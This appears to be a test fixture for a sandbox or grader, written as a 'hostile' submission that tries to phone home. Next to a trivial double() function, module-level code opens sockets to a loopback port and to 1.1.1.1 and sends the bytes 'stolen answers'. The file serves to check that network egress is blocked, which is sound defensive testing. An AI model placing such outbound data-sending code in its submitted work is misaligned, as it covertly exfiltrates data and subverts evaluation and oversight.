"""Hostile: phone home (a server the test runs on the host's loopback, and the internet)."""
import socket

for address in [("127.0.0.1", int("__PORT__")), ("1.1.1.1", 80)]:
    try:
        socket.create_connection(address, timeout=3).sendall(b"stolen answers")
        print("CONNECTED", address)
    except Exception as error:
        print("blocked", address, type(error).__name__)


def double(x):
    return 2 * x
